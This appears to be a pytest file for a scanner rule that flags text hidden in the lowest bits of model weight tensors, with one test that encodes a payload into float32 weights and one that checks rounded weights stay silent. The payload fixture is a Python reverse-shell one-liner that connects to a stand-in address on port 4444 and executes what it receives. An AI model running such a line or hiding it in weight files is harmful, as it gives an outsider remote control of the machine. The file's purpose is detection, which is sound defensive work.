"""Rule weights-low-bits: something is hidden in the low bits of weights."""

from __future__ import annotations

from pathlib import Path

import pytest
from weights_samples import told

from watchword.inspect import Verdict

np = pytest.importorskip("numpy")


NORMAL = np.random.default_rng(7).normal(0, 0.02, (256, 256)).astype("<f4")
TEXT = b"import socket; s = socket.socket(); s.connect(('198.51.100.7', 4444)); exec(s.recv(4096))\n" * 100


def test_a_script_in_the_lowest_bit_is_suspicious(tmp_path: Path) -> None:
    """Text in the lowest bit of every element is found, most significant bit first."""
    bits = np.unpackbits(np.frombuffer(TEXT, "u1"))[: NORMAL.size].reshape(NORMAL.shape)
    hidden = (NORMAL.view("<u4") & 0xFFFFFFFE | bits).astype("<u4").view("<f4")
    assert told(tmp_path / "m.safetensors", hidden) == [("weights-low-bits", Verdict.SUSPICIOUS)]


def test_rounded_weights_are_silent(tmp_path: Path) -> None:
    """Low bits that are all zero are what a shorter type leaves."""
    assert told(tmp_path / "m.safetensors", NORMAL, NORMAL.astype("<f2").astype("<f4")) == []
